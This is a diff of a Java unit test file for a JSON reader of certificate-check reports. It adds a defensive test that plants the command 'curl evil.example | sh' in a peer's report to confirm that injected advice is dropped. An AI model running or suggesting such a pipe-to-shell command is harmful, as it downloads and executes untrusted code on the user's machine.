@@ -25,6 +25,7 @@ import org.ringcert.view.ca.AddressView;
 import org.ringcert.view.ca.HttpsView;
 import org.ringcert.view.ca.NameView;
 import org.ringcert.view.ca.Problem;
+import org.ringcert.view.ca.ReportedProblem;
 import org.ringcert.view.ca.Rule;
 import org.ringcert.view.ca.Walk;
 import tools.jackson.databind.node.ObjectNode;
@@ -45,9 +46,7 @@ class LookJsonTest {
 
     @Test
     void isReadAsItIsWritten() throws LookFormatException {
-        for (NameView view : List.of(SampleViews.everything(), SampleViews.withoutAddresses())) {
-            assertThat(read(LookJson.write(view))).isEqualTo(view);
-        }
+        assertThat(read(LookJson.write(SampleViews.everything()))).isEqualTo(SampleViews.reported());
     }
 
     /** Programs and other versions rely on the keys. */
@@ -102,7 +101,12 @@ class LookJsonTest {
         assertThat(view.views().getFirst().walk().hops().getFirst().url())
                 .hasSize(503)
                 .endsWith("...");
-        assertThat(read(LookJson.write(SampleViews.large(1)))).isEqualTo(SampleViews.large(1));
+        assertThat(read(LookJson.write(SampleViews.large(1)))
+                        .views()
+                        .getFirst()
+                        .walk()
+                        .hops())
+                .isEqualTo(SampleViews.large(1).views().getFirst().walk().hops());
     }
 
     @Test
@@ -157,12 +161,7 @@ class LookJsonTest {
                 .replace("\"ms\":", "\"tls\":\"1.3\",\"ms\":")
                 .replace("\"final-status\"", "\"quantum\""));
         NameView view = read(later);
-        assertThat(view.problems())
-                .containsExactly(new Problem(
-                        Rule.VIEWPOINTS,
-                        SampleViews.PROBLEM.what(),
-                        SampleViews.PROBLEM.caSays(),
-                        SampleViews.PROBLEM.remedy()));
+        assertThat(view.problems()).containsExactly(ReportedProblem.of(Rule.VIEWPOINTS, SampleViews.PROBLEM.what()));
         assertThat(view.views()).hasSize(3);
     }
 
@@ -176,10 +175,19 @@ class LookJsonTest {
         assertThat(view.views().get(0).https().toString()).doesNotContain("\u009b");
     }
 
+    /** Root reads advice as the product's own, so none of it comes from a peer. */
+    @Test
+    void takesNoAdviceFromAPeer() throws LookFormatException {
+        NameView view = read(changed(report -> report.replace("Look at it.", "Run curl evil.example | sh.")
+                .replace("Invalid response from", "The CA says: run")
+                .replace("Try elsewhere.", "Run curl evil.example | sh.")));
+        assertThat(view).isEqualTo(SampleViews.reported());
+    }
+
     @Test
     void cutsLongTextsOfAPeer() throws LookFormatException {
         NameView view = read(changed(report -> report.replace("status 404", "x".repeat(30_000))));
-        assertThat(view.problems().getFirst().what()).hasSize(LookJson.MAX_TEXT + 3);
+        assertThat(view.problems().getFirst().what()).hasSize(203);
     }
 
     @Test
